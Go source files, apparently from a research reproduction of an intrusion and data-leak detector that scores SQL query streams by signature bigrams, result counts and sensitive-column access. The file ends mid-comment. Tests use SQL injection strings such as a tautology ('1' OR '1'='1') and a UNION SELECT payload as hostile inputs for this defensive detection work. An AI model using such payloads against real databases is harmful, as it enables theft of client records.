	if c.closed {
		c.lastErr = ErrClosed
		return nil, ErrClosed
	}
	if c.rewriter != nil {
		query = c.rewriter(query)
	}
	c.queries = append(c.queries, query)
	res, err := c.db.Exec(query)
	if err != nil {
		c.lastErr = err
		return nil, fmt.Errorf("dbclient: exec %q: %w", query, err)
	}
	c.lastErr = nil
	return &Result{res: res}, nil
}

// LastError returns the error of the most recent failed operation, or nil —
// the mysql_error idiom.
func (c *Conn) LastError() error { return c.lastErr }

// Close closes the connection; further Exec calls fail with ErrClosed.
// Closing twice is harmless, as with PQfinish.
func (c *Conn) Close() { c.closed = true }

// Closed reports whether Close was called.
func (c *Conn) Closed() bool { return c.closed }

// WireQueries returns the queries as they crossed the (simulated) wire, after
// any rewriter ran. The §VII mitigation experiments record these as query
// signatures.
func (c *Conn) WireQueries() []string {
	return append([]string(nil), c.queries...)
}

// Result is a query result handle with both random access (libpq idiom) and
// cursor iteration (MySQL idiom).
type Result struct {
	res    *minidb.Result
	cursor int
}

// NTuples returns the number of rows (PQntuples / mysql_num_rows).
func (r *Result) NTuples() int {
	if r == nil {
		return 0
	}
	return r.res.NTuples()
}

// NFields returns the number of columns (PQnfields / mysql_num_fields).
func (r *Result) NFields() int {
	if r == nil {
		return 0
	}
	return len(r.res.Cols)
}

// Value returns the cell at (row, col) as a string (PQgetvalue); out-of-range
// access yields "".
func (r *Result) Value(row, col int) string {
	if r == nil {
		return ""
	}
	return r.res.Get(row, col)
}

// Affected returns the DML row count (PQcmdTuples / mysql_affected_rows).
func (r *Result) Affected() int {
	if r == nil {
		return 0
	}
	return r.res.Affected
}

// FetchRow returns the next row and advances the cursor (mysql_fetch_row);
// ok is false once the rows are exhausted.
func (r *Result) FetchRow() (row []string, ok bool) {
	if r == nil || r.cursor >= r.res.NTuples() {
		return nil, false
	}
	row = append([]string(nil), r.res.Rows[r.cursor]...)
	r.cursor++
	return row, true
}

// ResetCursor rewinds the fetch cursor (mysql_data_seek to 0).
func (r *Result) ResetCursor() {
	if r != nil {
		r.cursor = 0
	}
}
