// Package sqlchan implements the SQL-behaviour detection channel: a
// per-session scorer over the query stream that runs beside the call-window
// HMM channel and sees what the HMM cannot. The HMM profiles *which library
// calls* a program makes; this channel profiles *what its queries look like
// and return* — three features per executed query, all learned from the
// same training traces the HMM trains on:
//
//   - Signature n-grams: the add-k-smoothed bigram distribution over
//     normalised query signatures (qsig.Normalize), including a START state
//     per trace, so a query shape never issued in training — or issued in an
//     order never seen — scores low even when the call sequence around it is
//     perfectly plausible.
//   - Result-cardinality profiles: a per-signature smoothed distribution
//     over log2 row-count buckets, so a known query suddenly returning 25
//     rows where training always saw 12 scores low — the mimicry case where
//     the query text and the call trace are both unchanged.
//   - Sensitive-column access sets: the union of projected columns seen in
//     training plus an administrator-declared sensitive set; a novel query
//     touching columns outside the trained set pays a learned penalty, and
//     touching an undeclared *sensitive* column marks the window for a DL
//     upgrade.
//
// Scoring mirrors the HMM channel's calibration exactly: each query gets a
// log-likelihood, a sliding window of WindowLen queries (step 1) is averaged
// per query, and the profile's threshold is the minimum window score seen
// across the training corpus minus a slack — so a fused judge can compare
// the two channels' anomaly margins on the same footing.
package sqlchan

import (
	"errors"
	"fmt"
	"math"
	"math/bits"
	"strings"

	"adprom/internal/collector"
	"adprom/internal/qsig"
)

// ErrNoQueries reports a training corpus with no query-bearing calls: there
// is nothing to profile, and a zero-knowledge profile would flag everything.
var ErrNoQueries = errors.New("sqlchan: training traces contain no queries")

const (
	// DefaultWindowLen is the sliding query-window length. Queries are far
	// sparser than library calls (a short trace may hold one or two), so the
	// window is shorter than the HMM's 15 and partial windows are judged at
	// flush like the HMM channel's.
	DefaultWindowLen = 8
	// DefaultThresholdSlack is subtracted from the minimum training-window
	// score to set the threshold, mirroring profile.Options.ThresholdSlack.
	// The categorical log-probabilities here move in coarser steps than the
	// HMM's per-symbol scores, so the default slack is wider.
	DefaultThresholdSlack = 0.25
	// DefaultSmoothK is the add-k smoothing mass for the bigram and
	// cardinality distributions.
	DefaultSmoothK = 0.5

	// cardBuckets is the number of log2 row-count buckets: bucket b holds
	// cardinalities with bit length b (0, 1, 2–3, 4–7, ...), saturating at
	// the top so a million-row exfiltration still lands in a trained-against
	// bucket index.
	cardBuckets = 20

	// maxSigLen bounds the signature text retained in scorer state and alert
	// windows, so a hostile megabyte query cannot pin a megabyte string per
	// ring slot.
	maxSigLen = 160
)

// Options tune training.
type Options struct {
	// WindowLen is the sliding query-window length (default 8).
	WindowLen int
	// ThresholdSlack widens the calibrated threshold below the worst
	// training window (default 0.25).
	ThresholdSlack float64
	// SmoothK is the add-k smoothing mass (default 0.5).
	SmoothK float64
	// SensitiveColumns declares column names whose access outside the
	// trained projection set upgrades an alert to DL (case-insensitive).
	SensitiveColumns []string
}

func (o Options) withDefaults() Options {
	if o.WindowLen <= 0 {
		o.WindowLen = DefaultWindowLen
	}
	if o.ThresholdSlack <= 0 {
		o.ThresholdSlack = DefaultThresholdSlack
	}
	if o.SmoothK <= 0 {
		o.SmoothK = DefaultSmoothK
	}
	return o
}

// Profile is the trained SQL-behaviour model. It is immutable after Train:
// scorers share one profile read-only across sessions, and scoring never
// grows any of its maps (unseen signatures map to a fixed UNK state).
type Profile struct {
	// WindowLen is the sliding query-window length.
	WindowLen int
	// Threshold is the calibrated per-window (per-query-average) score
	// floor: window scores below it are anomalous.
	Threshold float64

	sigs  []string       // id → signature
	sigID map[string]int // signature → id; unseen → unk

	// bigram[r][c] is log P(next signature class c | previous class r).
	// Rows: V signatures, then UNK (unk), then START (start). Columns: V
	// signatures, then UNK.
	bigram [][]float64
	// card[id][b] is log P(cardinality bucket b | signature id); the UNK row
	// is uniform.
	card [][]float64

	// colKnownLP / colUnseenLP is the learned log-probability of a query
	// projecting only trained columns vs at least one never-trained column
	// (a Bernoulli with zero observed successes, add-k smoothed).
	colKnownLP, colUnseenLP float64

	knownCols     map[string]bool
	sensitiveCols map[string]bool
}

// unk / start return the profile's special row indices.
func (p *Profile) unk() int   { return len(p.sigs) }
func (p *Profile) start() int { return len(p.sigs) + 1 }

// Signatures returns the trained signature vocabulary, in id order.
func (p *Profile) Signatures() []string { return append([]string(nil), p.sigs...) }

// cardBucket maps a result cardinality to its log2 bucket.
func cardBucket(rows int) int {
	if rows <= 0 {
		return 0
	}
	b := bits.Len(uint(rows))
	if b >= cardBuckets {
		b = cardBuckets - 1
	}
	return b
}

// truncSig bounds the signature text kept in scorer rings and alert windows.
func truncSig(sig string) string {
	if len(sig) > maxSigLen {
		return sig[:maxSigLen] + "…"
	}
	return sig
}

// querySeq projects one trace to its executed queries (calls carrying SQL).
type query struct {
	sig  string
	rows int
}

func queriesOf(t collector.Trace) []query {
	var out []query
	for i := range t {
		if t[i].SQL == "" {
			continue
		}
		out = append(out, query{sig: qsig.Normalize(t[i].SQL), rows: t[i].Rows})
	}
	return out
}

// Train builds a profile from training traces: vocabulary, bigram and
// cardinality counts, the trained column set, then threshold calibration by
// replaying every trace through a scorer and taking the minimum window
// score minus the slack — the same minimum-of-training calibration the HMM
// profile uses.
func Train(traces []collector.Trace, opts Options) (*Profile, error) {
	opts = opts.withDefaults()

	var seqs [][]query
	for _, t := range traces {
		if qs := queriesOf(t); len(qs) > 0 {
			seqs = append(seqs, qs)
		}
	}
	if len(seqs) == 0 {
		return nil, ErrNoQueries
	}

	p := &Profile{
		WindowLen:     opts.WindowLen,
		sigID:         map[string]int{},
		knownCols:     map[string]bool{},
		sensitiveCols: map[string]bool{},
	}
	for _, c := range opts.SensitiveColumns {
		p.sensitiveCols[strings.ToLower(strings.TrimSpace(c))] = true
	}
	for _, qs := range seqs {
		for _, q := range qs {
			if _, ok := p.sigID[q.sig]; !ok {
				p.sigID[q.sig] = len(p.sigs)
				p.sigs = append(p.sigs, q.sig)
			}
			for _, col := range qsig.Columns(q.sig) {
				p.knownCols[col] = true
			}
		}
	}

	v := len(p.sigs)
	k := opts.SmoothK
	bigramCount := make([][]float64, v+2) // + unk row + start row
	for r := range bigramCount {
		bigramCount[r] = make([]float64, v+1) // + unk column
	}
	cardCount := make([][]float64, v)
	for id := range cardCount {
		cardCount[id] = make([]float64, cardBuckets)
	}
	total := 0
	for _, qs := range seqs {
		prev := p.start()
		for _, q := range qs {
			id := p.sigID[q.sig]
			bigramCount[prev][id]++
			cardCount[id][cardBucket(q.rows)]++
			prev = id
			total++
		}
	}

	p.bigram = make([][]float64, v+2)
	for r := range p.bigram {
		p.bigram[r] = make([]float64, v+1)
		rowTotal := 0.0
		for _, n := range bigramCount[r] {
			rowTotal += n
		}
		den := rowTotal + k*float64(v+1)
		for c := range p.bigram[r] {
			p.bigram[r][c] = math.Log((bigramCount[r][c] + k) / den)
		}
	}
	p.card = make([][]float64, v+1)
	for id := 0; id <= v; id++ {
		p.card[id] = make([]float64, cardBuckets)
		if id == v { // UNK: uniform
			lp := -math.Log(cardBuckets)
			for b := range p.card[id] {
				p.card[id][b] = lp
			}
			continue
		}
		rowTotal := 0.0
		for _, n := range cardCount[id] {
			rowTotal += n
		}
		den := rowTotal + k*cardBuckets
		for b := range p.card[id] {
			p.card[id][b] = math.Log((cardCount[id][b] + k) / den)
		}
	}

	// Column-novelty Bernoulli: zero unseen-column queries in training out
	// of total, add-k smoothed.
	p.colUnseenLP = math.Log(k / (float64(total) + 2*k))
	p.colKnownLP = math.Log((float64(total) + k) / (float64(total) + 2*k))

	// Calibrate: minimum window (or short-trace partial) score across the
	// training corpus, minus the slack.
	min := math.Inf(1)
	sc := NewScorer(p)
	for _, qs := range seqs {
		sc.Reset()
		for _, q := range qs {
			if v, done := sc.observeSig(q.sig, q.rows); done && v.Score < min {
				min = v.Score
			}
		}
		if v, done := sc.Flush(); done && v.Score < min {
			min = v.Score
		}
	}
	p.Threshold = min - opts.ThresholdSlack
	return p, nil
}

// scoreSig computes one query's log-likelihood given the previous signature
// class: bigram + cardinality + column-novelty terms. It returns the next
// bigram row and whether the query touched an undeclared sensitive column.
func (p *Profile) scoreSig(prevRow int, sig string, rows int) (lp float64, nextRow int, sensitive bool) {
	id, known := p.sigID[sig]
	col := id
	if !known {
		col = p.unk()
	}
	lp = p.bigram[prevRow][col]
	lp += p.card[col][cardBucket(rows)]
	if known {
		lp += p.colKnownLP
		return lp, id, false
	}
	// Novel signature: inspect its projection. A known signature's columns
	// were by construction all seen in training.
	unseen := false
	for _, c := range qsig.Columns(sig) {
		if !p.knownCols[c] {
			unseen = true
			if p.sensitiveCols[c] || c == "*" && len(p.sensitiveCols) > 0 {
				sensitive = true
			}
		}
	}
	if unseen {
		lp += p.colUnseenLP
	} else {
		lp += p.colKnownLP
	}
	return lp, p.unk(), sensitive
}

// Verdict is one judged query window: the per-query-average log-likelihood
// of the last WindowLen queries (or of a short trace's whole query sequence
// at flush), the profile threshold it is compared against, and whether any
// query in the window touched an undeclared sensitive column.
type Verdict struct {
	Score     float64
	Threshold float64
	Sensitive bool
}

// Scorer scores one session's query stream against a shared read-only
// Profile. State is a fixed ring of WindowLen per-query entries — observing
// hostile query streams never grows it, and unseen signatures never grow
// the profile. Not safe for concurrent use; one scorer per session.
type Scorer struct {
	p       *Profile
	prevRow int
	lps     []float64
	sigs    []string
	sens    []bool
	n       int
	sum     float64
}

// NewScorer builds a scorer over p.
func NewScorer(p *Profile) *Scorer {
	s := &Scorer{
		p:    p,
		lps:  make([]float64, p.WindowLen),
		sigs: make([]string, p.WindowLen),
		sens: make([]bool, p.WindowLen),
	}
	s.Reset()
	return s
}

// Reset clears the query window between traces (the profile is untouched).
func (s *Scorer) Reset() {
	s.prevRow = s.p.start()
	s.n = 0
	s.sum = 0
}

// Observe folds one executed query into the window. done reports that a
// full window completed on this query and v holds its judgement.
func (s *Scorer) Observe(sql string, rows int) (v Verdict, done bool) {
	return s.observeSig(qsig.Normalize(sql), rows)
}

func (s *Scorer) observeSig(sig string, rows int) (v Verdict, done bool) {
	lp, next, sensitive := s.p.scoreSig(s.prevRow, sig, rows)
	s.prevRow = next
	w := len(s.lps)
	idx := s.n % w
	if s.n >= w {
		s.sum -= s.lps[idx]
	}
	s.lps[idx] = lp
	s.sigs[idx] = truncSig(sig)
	s.sens[idx] = sensitive
	s.sum += lp
	s.n++
	if s.n < w {
		return Verdict{}, false
	}
	return s.verdict(w), true
}

// Flush judges a short trace's partial window: done only when the stream
// held at least one query but never filled a window, mirroring the HMM
// engine's flush-time partial-window judgement.
func (s *Scorer) Flush() (v Verdict, done bool) {
	if s.n == 0 || s.n >= len(s.lps) {
		return Verdict{}, false
	}
	return s.verdict(s.n), true
}

func (s *Scorer) verdict(n int) Verdict {
	v := Verdict{Score: s.sum / float64(n), Threshold: s.p.Threshold}
	for i := 0; i < n; i++ {
		if s.sens[i] {
			v.Sensitive = true
		}
	}
	return v
}

// AppendWindow appends the signatures of the last-judged window to dst,
// oldest first — the SQL analogue of Alert.Window, fetched only for flagged
// windows so unflagged judgements stay allocation-free.
func (s *Scorer) AppendWindow(dst []string) []string {
	w := len(s.lps)
	n := s.n
	if n > w {
		n = w
	}
	for i := 0; i < n; i++ {
		dst = append(dst, s.sigs[(s.n-n+i)%w])
	}
	return dst
}

// QueryCount reports queries observed since the last Reset.
func (s *Scorer) QueryCount() int { return s.n }

// String summarises the profile for inspection output.
func (p *Profile) String() string {
	return fmt.Sprintf("sqlchan.Profile{signatures=%d window=%d threshold=%.4f cols=%d sensitive=%d}",
		len(p.sigs), p.WindowLen, p.Threshold, len(p.knownCols), len(p.sensitiveCols))
}
