package sqlchan

import (
	"errors"
	"math"
	"strings"
	"testing"

	"adprom/internal/collector"
)

// qcall builds a query-bearing call; plain calls carry no SQL.
func qcall(sql string, rows int) collector.Call {
	return collector.Call{Label: "mysql_query@main", Name: "mysql_query", SQL: sql, Rows: rows}
}

// trainingTraces mimic the banking app: a parameterised lookup returning one
// row and a report returning a dozen, in both orders so both bigram
// transitions are trained.
func trainingTraces() []collector.Trace {
	lookup := func(id string) collector.Call {
		return qcall("SELECT * FROM clients WHERE id='"+id+"'", 1)
	}
	report := qcall("SELECT id, balance FROM clients ORDER BY balance DESC LIMIT 12", 12)
	var traces []collector.Trace
	for i := 0; i < 4; i++ {
		traces = append(traces,
			collector.Trace{lookup("101"), report},
			collector.Trace{report, lookup("119")},
			collector.Trace{lookup("125")},
		)
	}
	return traces
}

func trainedProfile(t *testing.T) *Profile {
	t.Helper()
	p, err := Train(trainingTraces(), Options{SensitiveColumns: []string{"name", "balance"}})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	return p
}

func TestTrainRejectsQueryFreeCorpus(t *testing.T) {
	_, err := Train([]collector.Trace{{{Label: "printf@main", Name: "printf"}}}, Options{})
	if !errors.Is(err, ErrNoQueries) {
		t.Fatalf("err = %v, want ErrNoQueries", err)
	}
}

func TestTrainingTracesScoreAboveThreshold(t *testing.T) {
	p := trainedProfile(t)
	sc := NewScorer(p)
	for _, tr := range trainingTraces() {
		sc.Reset()
		judged := false
		for _, c := range tr {
			if v, done := sc.Observe(c.SQL, c.Rows); done {
				judged = true
				if v.Score < v.Threshold {
					t.Errorf("training window scored %.4f below threshold %.4f", v.Score, v.Threshold)
				}
			}
		}
		if v, done := sc.Flush(); done {
			judged = true
			if v.Score < v.Threshold {
				t.Errorf("training partial scored %.4f below threshold %.4f", v.Score, v.Threshold)
			}
			if v.Sensitive {
				t.Errorf("training partial marked sensitive: %+v", v)
			}
		}
		if !judged {
			t.Error("trace produced no judgement")
		}
	}
}

// A query shape never issued in training lands in UNK and pays the unseen
// bigram plus the novel-column penalty: the partial window must flag.
func TestNovelSignatureFlagged(t *testing.T) {
	p := trainedProfile(t)
	sc := NewScorer(p)
	sc.Observe("SELECT * FROM clients WHERE id='1' OR id='102'", 1)
	v, done := sc.Flush()
	if !done {
		t.Fatal("no partial verdict")
	}
	if v.Score >= v.Threshold {
		t.Errorf("novel signature scored %.4f, want below threshold %.4f", v.Score, v.Threshold)
	}
	if v.Sensitive {
		t.Errorf("SELECT * projection is inside the trained access set, got Sensitive")
	}
}

// The mimicry case: identical signature and call trace, inflated result
// cardinality. Only the per-signature cardinality profile can see it.
func TestCardinalityShiftFlagged(t *testing.T) {
	p := trainedProfile(t)
	sc := NewScorer(p)
	sc.Observe("SELECT id, balance FROM clients ORDER BY balance DESC LIMIT 9999", 25)
	v, done := sc.Flush()
	if !done {
		t.Fatal("no partial verdict")
	}
	if v.Score >= v.Threshold {
		t.Errorf("25-row report scored %.4f, want below threshold %.4f", v.Score, v.Threshold)
	}
	if v.Sensitive {
		t.Error("known signature should never be a DL suspect")
	}
}

// A novel query projecting a declared sensitive column outside the trained
// access set marks the window for the DL upgrade.
func TestSensitiveProjectionMarksWindow(t *testing.T) {
	p := trainedProfile(t)
	sc := NewScorer(p)
	sc.Observe("SELECT id, name, balance FROM clients WHERE id='125'", 1)
	v, done := sc.Flush()
	if !done {
		t.Fatal("no partial verdict")
	}
	if v.Score >= v.Threshold || !v.Sensitive {
		t.Errorf("sensitive projection: got score=%.4f threshold=%.4f sensitive=%v, "+
			"want flagged and sensitive", v.Score, v.Threshold, v.Sensitive)
	}
}

func TestCardBucketSaturates(t *testing.T) {
	cases := []struct{ rows, want int }{
		{-3, 0}, {0, 0}, {1, 1}, {2, 2}, {3, 2}, {4, 3}, {12, 4}, {25, 5},
		{1 << 25, cardBuckets - 1}, {math.MaxInt, cardBuckets - 1},
	}
	for _, c := range cases {
		if got := cardBucket(c.rows); got != c.want {
			t.Errorf("cardBucket(%d) = %d, want %d", c.rows, got, c.want)
		}
	}
}

// Hostile streams must never grow scorer state: the ring stays WindowLen
// entries and each retained signature is length-bounded.
func TestScorerStateBounded(t *testing.T) {
	p := trainedProfile(t)
	sc := NewScorer(p)
	huge := "SELECT " + strings.Repeat("x", 1<<20) + " FROM clients"
	for i := 0; i < 100; i++ {
		sc.Observe(huge, i)
	}
	if sc.QueryCount() != 100 {
		t.Fatalf("QueryCount = %d", sc.QueryCount())
	}
	w := sc.AppendWindow(nil)
	if len(w) != p.WindowLen {
		t.Fatalf("window holds %d signatures, want %d", len(w), p.WindowLen)
	}
	for _, sig := range w {
		if len(sig) > maxSigLen+len("…") {
			t.Fatalf("retained signature is %d bytes", len(sig))
		}
	}
	if n := len(p.sigID); n != 2 {
		t.Errorf("profile vocabulary grew to %d entries under unseen queries", n)
	}
}

func TestProfileStringMentionsCalibration(t *testing.T) {
	p := trainedProfile(t)
	s := p.String()
	for _, want := range []string{"signatures=2", "sensitive=2", "threshold="} {
		if !strings.Contains(s, want) {
			t.Errorf("String() = %q, missing %q", s, want)
		}
	}
}

// FuzzSQLChanObserve drives arbitrary query text and cardinalities through a
// trained scorer: no panic, no state growth, and every emitted verdict must
// be finite and carry the profile threshold.
func FuzzSQLChanObserve(f *testing.F) {
	p, err := Train(trainingTraces(), Options{SensitiveColumns: []string{"name", "balance"}})
	if err != nil {
		f.Fatal(err)
	}
	f.Add("SELECT * FROM clients WHERE id='1'", 1)
	f.Add("SELECT id, balance FROM clients ORDER BY balance DESC LIMIT 12", 12)
	f.Add("1' UNION SELECT id, name, balance FROM clients WHERE id='125", -7)
	f.Add("", 0)
	f.Add("\x00\xff'\"` --", math.MaxInt)
	sc := NewScorer(p)
	f.Fuzz(func(t *testing.T, sql string, rows int) {
		v, done := sc.Observe(sql, rows)
		if done {
			if math.IsNaN(v.Score) || math.IsInf(v.Score, 0) {
				t.Fatalf("verdict score %v for %q rows=%d", v.Score, sql, rows)
			}
			if v.Threshold != p.Threshold {
				t.Fatalf("verdict threshold %v, profile %v", v.Threshold, p.Threshold)
			}
		}
		if len(p.sigID) != 2 {
			t.Fatalf("profile vocabulary grew to %d", len(p.sigID))
		}
		if w := sc.AppendWindow(nil); len(w) > p.WindowLen {
			t.Fatalf("window grew to %d", len(w))
		}
	})
}

func BenchmarkSQLChanObserve(b *testing.B) {
	p, err := Train(trainingTraces(), Options{SensitiveColumns: []string{"name", "balance"}})
	if err != nil {
		b.Fatal(err)
	}
	sc := NewScorer(p)
	queries := []struct {
		sql  string
		rows int
	}{
		{"SELECT * FROM clients WHERE id='104'", 1},
		{"SELECT id, balance FROM clients ORDER BY balance DESC LIMIT 12", 12},
		{"SELECT * FROM clients WHERE id='1' OR id='119'", 1},
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		q := queries[i%len(queries)]
		sc.Observe(q.sql, q.rows)
	}
}
