package dataset

import (
	"context"
	"fmt"

	"adprom/internal/collector"
	"adprom/internal/interp"
	"adprom/internal/ir"
	"adprom/internal/minidb"
)

// TestCase is one input vector for a dataset program (the tokens its
// scanf/gets calls consume).
type TestCase struct {
	Name  string
	Input []string
}

// App bundles a dataset program with its database seeder and test-case
// corpus.
type App struct {
	// Name is the short identifier used in experiment output (apph, appb,
	// apps, app1..app4).
	Name string
	// DBMS records which client dialect the program uses (presentation
	// only; the engine underneath is minidb either way).
	DBMS string
	// Prog is the application program.
	Prog *ir.Program
	// FreshDB returns a newly seeded database; nil for non-DB programs.
	FreshDB func() *minidb.Database
	// TestCases drives trace collection.
	TestCases []TestCase
}

// NumStates returns the number of library-call sites — the paper's "#states"
// statistic in Tables III/IV before any clustering.
func (a *App) NumStates() int { return len(ir.ProgramCallSites(a.Prog)) }

// CollectTraces runs every test case and returns one trace per case. Each
// case runs against a fresh database and world, so traces are independent
// and deterministic. The mode selects the collector strategy (AD-PROM for
// everything except the Table VI overhead comparison).
func (a *App) CollectTraces(mode collector.Mode) ([]collector.Trace, error) {
	return a.CollectTracesFrom(a.Prog, mode)
}

// CollectTracesContext is CollectTraces with cancellation: the context is
// checked before every test case, and a cancelled collection returns
// ctx.Err() (wrapped).
func (a *App) CollectTracesContext(ctx context.Context, mode collector.Mode) ([]collector.Trace, error) {
	return a.collectTracesFrom(ctx, a.Prog, mode)
}

// CollectTracesFrom runs the app's test cases against prog — typically a
// mutated copy produced by the attack framework — with the app's databases
// and inputs.
func (a *App) CollectTracesFrom(prog *ir.Program, mode collector.Mode) ([]collector.Trace, error) {
	return a.collectTracesFrom(context.Background(), prog, mode)
}

func (a *App) collectTracesFrom(ctx context.Context, prog *ir.Program, mode collector.Mode) ([]collector.Trace, error) {
	traces := make([]collector.Trace, 0, len(a.TestCases))
	for _, tc := range a.TestCases {
		if err := ctx.Err(); err != nil {
			return nil, fmt.Errorf("dataset %s: collection cancelled after %d cases: %w", a.Name, len(traces), err)
		}
		tr, err := a.RunCase(prog, tc, mode, nil)
		if err != nil {
			return nil, fmt.Errorf("dataset %s: case %s: %w", a.Name, tc.Name, err)
		}
		traces = append(traces, tr)
	}
	return traces, nil
}

// RunCase executes one test case of prog and returns its trace. extra, when
// non-nil, is invoked on the interpreter before the run (the MITM attack
// installs its query rewriter this way via the world).
func (a *App) RunCase(prog *ir.Program, tc TestCase, mode collector.Mode, setup func(*interp.Interp, *interp.World)) (collector.Trace, error) {
	var db *minidb.Database
	if a.FreshDB != nil {
		db = a.FreshDB()
	}
	world := interp.NewWorld(db)
	opts := interp.Options{CaptureArgs: mode == collector.ModeLtrace}
	ip := interp.New(prog, world, opts)
	col := collector.New(mode, nil)
	ip.AddHook(col.Hook())
	if setup != nil {
		setup(ip, world)
	}
	if _, err := ip.Run(tc.Input...); err != nil {
		return nil, err
	}
	return col.Trace(), nil
}

// CAApps returns the three CA-dataset client applications of Table III.
func CAApps() []*App {
	return []*App{AppH(), AppB(), AppS()}
}
