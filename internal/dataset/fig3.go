// Package dataset provides the programs and test-case corpora of the paper's
// evaluation: the Figure 3 worked example, the CA-dataset client applications
// (hospital, banking, supermarket), and the SIR-style corpus (App1–App4).
package dataset

import "adprom/internal/ir"

// Fig3 reconstructs the two-function program of the paper's Figure 3, whose
// per-function call-transition matrices are given exactly in Tables I and II.
//
// The CFG shape is recovered from the probability values in those tables and
// the derivations in §IV-C2/§IV-C3:
//
//	main: b0 A  (entry, no calls)   → b1 | b2
//	      b1 B' (printf')           → b6
//	      b2 B  (printf'')          → b5 | b3
//	      b3 C  (PQexec)            → b4
//	      b4 D  (call f(result))    → b5
//	      b5 E  (no calls)          → b6
//	      b6 F  (no calls)          → return
//
//	f:    b0 G  (entry, no calls)   → b1 | b2
//	      b1 H  (printf)            → return
//	      b2 K  (no calls)          → b3 | b4
//	      b3 M  (printf of TD)      → return     ← the paper's printf_Q10
//	      b4 N  (no calls)          → return
//
// f's block-3 printf receives the query result passed from main, so the
// data-dependency analysis labels it printf_Q3 (the paper numbers blocks
// globally and writes printf_Q10; this reproduction uses function-local
// block ids).
func Fig3() *ir.Program {
	b := ir.NewBuilder("fig3")

	f := b.Func("f", "data")
	g := f.Block()  // b0 G
	h := f.Block()  // b1 H
	k := f.Block()  // b2 K
	m := f.Block()  // b3 M
	nn := f.Block() // b4 N
	g.If(ir.V("which"), h, k)
	h.Call("printf", ir.S("plain message\n"))
	h.Ret()
	k.If(ir.V("other"), m, nn)
	m.Call("printf", ir.S("%s"), ir.V("data")) // prints TD → printf_Q3
	m.Ret()
	nn.Ret()

	mn := b.Func("main")
	a := mn.Block()  // b0 A
	b1 := mn.Block() // b1 B'
	bb := mn.Block() // b2 B
	c := mn.Block()  // b3 C
	d := mn.Block()  // b4 D
	e := mn.Block()  // b5 E
	ff := mn.Block() // b6 F
	a.If(ir.V("cond1"), b1, bb)
	b1.Call("printf", ir.S("left branch\n")) // printf'
	b1.Goto(ff)
	bb.Call("printf", ir.S("right branch\n")) // printf''
	bb.If(ir.V("cond2"), e, c)
	c.CallTo("result", "PQexec", ir.V("conn"), ir.S("SELECT * FROM items WHERE ID = 10"))
	c.Goto(d)
	d.Invoke("f", ir.V("result"))
	d.Goto(e)
	e.Goto(ff)
	ff.Ret()

	return b.MustBuild()
}
