package dataset

import (
	"strings"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/ir"
)

func TestCAAppsValidateAndRun(t *testing.T) {
	for _, app := range CAApps() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			if err := ir.Validate(app.Prog); err != nil {
				t.Fatalf("Validate: %v", err)
			}
			traces, err := app.CollectTraces(collector.ModeADPROM)
			if err != nil {
				t.Fatalf("CollectTraces: %v", err)
			}
			if len(traces) != len(app.TestCases) {
				t.Fatalf("%d traces for %d cases", len(traces), len(app.TestCases))
			}
			empty := 0
			for _, tr := range traces {
				if len(tr) == 0 {
					empty++
				}
			}
			if empty > 0 {
				t.Errorf("%d empty traces", empty)
			}
		})
	}
}

func TestCADatasetScaleMatchesTableIII(t *testing.T) {
	// Table III: #test cases 63/73/36; #states (call sites) 59/139/229.
	// The hand-written reproductions match the case counts exactly and the
	// call-site counts in order of magnitude.
	wantCases := map[string]int{"apph": 63, "appb": 73, "apps": 36}
	for _, app := range CAApps() {
		if got := len(app.TestCases); got != wantCases[app.Name] {
			t.Errorf("%s: %d test cases, want %d", app.Name, got, wantCases[app.Name])
		}
		if n := app.NumStates(); n < 25 || n > 300 {
			t.Errorf("%s: %d call sites, outside the Table III magnitude", app.Name, n)
		}
	}
}

func TestCATracesContainLeakLabels(t *testing.T) {
	// Every CA app outputs TD somewhere, so its normal traces include _Q
	// labels — the property the DL flag depends on.
	for _, app := range CAApps() {
		traces, err := app.CollectTraces(collector.ModeADPROM)
		if err != nil {
			t.Fatalf("%s: %v", app.Name, err)
		}
		found := false
		for _, tr := range traces {
			for _, c := range tr {
				if strings.Contains(c.Label, "_Q") {
					found = true
				}
			}
		}
		if !found {
			t.Errorf("%s: no _Q labels in any trace", app.Name)
		}
	}
}

func TestAppBInjectionChangesTrace(t *testing.T) {
	app := AppB()
	normal, err := app.RunCase(app.Prog, TestCase{Name: "n", Input: []string{"1", "105"}}, collector.ModeADPROM, nil)
	if err != nil {
		t.Fatalf("normal: %v", err)
	}
	injected, err := app.RunCase(app.Prog, TestCase{Name: "inj", Input: []string{"1", "1' OR '1'='1"}}, collector.ModeADPROM, nil)
	if err != nil {
		t.Fatalf("injected: %v", err)
	}
	if len(injected) <= len(normal)+10 {
		t.Errorf("injection barely changed the trace: %d vs %d calls", len(injected), len(normal))
	}
}

func TestSIRAppsValidateAndScale(t *testing.T) {
	apps := SIRApps()
	if len(apps) != 4 {
		t.Fatalf("SIRApps = %d", len(apps))
	}
	for _, app := range apps {
		if err := ir.Validate(app.Prog); err != nil {
			t.Errorf("%s: %v", app.Name, err)
		}
	}
	// App4 must cross the clustering threshold like bash (1366 states).
	if n := apps[3].NumStates(); n <= 900 {
		t.Errorf("app4 has %d call sites, need > 900 to engage clustering", n)
	}
	// The small ones must not.
	for _, app := range apps[:3] {
		if n := app.NumStates(); n > 900 {
			t.Errorf("%s has %d call sites, expected ≤ 900", app.Name, n)
		}
	}
}

func TestSIRTracesAreDiverse(t *testing.T) {
	app := App1()
	traces, err := app.CollectTraces(collector.ModeADPROM)
	if err != nil {
		t.Fatalf("CollectTraces: %v", err)
	}
	distinct := map[string]bool{}
	for _, tr := range traces {
		distinct[strings.Join(tr.Labels(), ";")] = true
	}
	if len(distinct) < len(traces)/4 {
		t.Errorf("only %d distinct traces out of %d", len(distinct), len(traces))
	}
}

func TestFig3IsThePaperExample(t *testing.T) {
	p := Fig3()
	if err := ir.Validate(p); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	if len(p.Functions) != 2 || p.Func("f") == nil || p.Func("main") == nil {
		t.Error("Fig3 shape wrong")
	}
	if len(p.Func("main").Blocks) != 7 || len(p.Func("f").Blocks) != 5 {
		t.Errorf("Fig3 block counts: main=%d f=%d",
			len(p.Func("main").Blocks), len(p.Func("f").Blocks))
	}
}
