package dataset

import (
	"fmt"

	"adprom/internal/ir"
	"adprom/internal/minidb"
)

// AppB is the CA-dataset's small banking system (paper Table III: a MySQL
